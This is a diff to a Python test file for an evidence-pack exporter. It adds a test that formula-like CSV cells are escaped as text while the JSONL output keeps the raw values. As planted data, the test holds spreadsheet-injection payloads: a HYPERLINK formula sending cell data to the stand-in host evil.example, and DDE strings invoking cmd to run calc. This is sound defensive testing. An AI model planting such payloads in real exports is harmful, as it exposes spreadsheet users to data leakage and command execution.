@@ -3,6 +3,7 @@ the report, and a pack that names the file any single changed byte hit."""
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import subprocess
@@ -15,10 +16,10 @@ import pytest
 from addons.evidence.manifest import MANIFEST, SIGNATURE, Pack, check_pack, sign_folder
 from addons.evidence.pack import build_pack
 from addons.evidence.request import EvidenceError, PackRequest
-from addons.store.database import connect
+from addons.store.database import Store, connect
 from addons.store.keys import SigningKey
 from addons.store.search import FlowFilter
-from tests.addons.evidence.traffic import T0, write_traffic
+from tests.addons.evidence.traffic import T0, flow, write_traffic
 
 ROOT = Path(__file__).resolve().parents[3]
 
@@ -187,3 +188,28 @@ def test_a_pack_request_names_what_it_refuses() -> None:
                        ({"user": 3}, "user"), ([], "JSON object")):
         with pytest.raises(EvidenceError, match=field):
             PackRequest.from_json(bad)
+
+
+def test_csv_cells_that_would_begin_a_formula_are_written_as_text(tmp_path: Path) -> None:
+    """A refused token's claimed subject, a user and a path are the callers' text: a spreadsheet must not run it."""
+    key = SigningKey.load_or_create(tmp_path / "sign.key")
+    store = Store(tmp_path / "w.duckdb", key, checkpoint_every=1000)
+    store.start()
+    planted = {"claimed_sub": '=HYPERLINK("http://evil.example/?"&A1,"open")', "user": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "path": "-2+3+cmd|' /C calc'!A0"}
+    for event in (flow(1, None, [], fate="unauthenticated", status=407, decision=None, rule=None,
+                        claimed=planted["claimed_sub"])
+                  + flow(2, planted["user"], ["dev"], path=planted["path"], minutes=1)):
+        store.submit(event).result(timeout=10)
+    store.close()
+    folder = make((tmp_path / "w.duckdb", key), tmp_path)
+    with (folder / "flows.csv").open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [c for c in cells if c[0] in "=+-@\t\r"]
+    for column, value in planted.items():
+        assert "'" + value in [row[column] for row in rows]
+    jsonl = [json.loads(line) for line in (folder / "flows.jsonl").read_text().splitlines()]
+    assert {column: value for column, value in planted.items()
+            if value in [r[column] for r in jsonl]} == planted  # JSONL keeps what was recorded
+    assert check_pack(Pack(folder)).ok
